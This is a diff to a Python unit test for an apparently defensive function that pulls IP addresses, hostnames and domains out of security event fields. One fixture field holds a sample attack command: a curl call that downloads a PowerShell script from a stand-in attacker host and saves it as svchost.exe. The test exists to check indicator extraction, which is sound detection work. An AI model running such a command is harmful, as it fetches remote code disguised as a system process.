@@ -54,9 +54,11 @@ def test_views_answer_with_the_summaries_text(fleet):
 def test_indicators_from_event_fields():
     found = indicators({"ip": "10.0.0.12", "client": "::ffff:192.0.2.7", "host": "DC1.Corp.Example.com.",
                         "cmd": "curl http://evil.example.net/x.ps1 -o C:\\t\\svchost.exe", "v6": "fe80::1%12",
-                        "n": 445, "nested": [{"a": "LOCAL"}, "1.2.3.4.5"], "file": "System.evtx"})
-    assert {"10.0.0.12", "192.0.2.7", "dc1.corp.example.com", "evil.example.net", "fe80::1"} <= found
-    assert not {"svchost.exe", "x.ps1", "system.evtx", "10.0.0.1", "local"} & found
+                        "n": 445, "nested": [{"a": "LOCAL"}, "1.2.3.4.5"], "file": "System.evtx",
+                        "mail": "bob@mail.example.org", "odd": "\u0130\u0130\u0130 x.evil.com \u0130", "t": "12:34:56",
+                        "tail": "my_file.example"})
+    assert found == {"10.0.0.12", "192.0.2.7", "dc1.corp.example.com", "evil.example.net", "fe80::1",
+                     "mail.example.org", "x.evil.com"}
     assert "1.2.3.4" not in found  # part of a longer dotted number
 
 
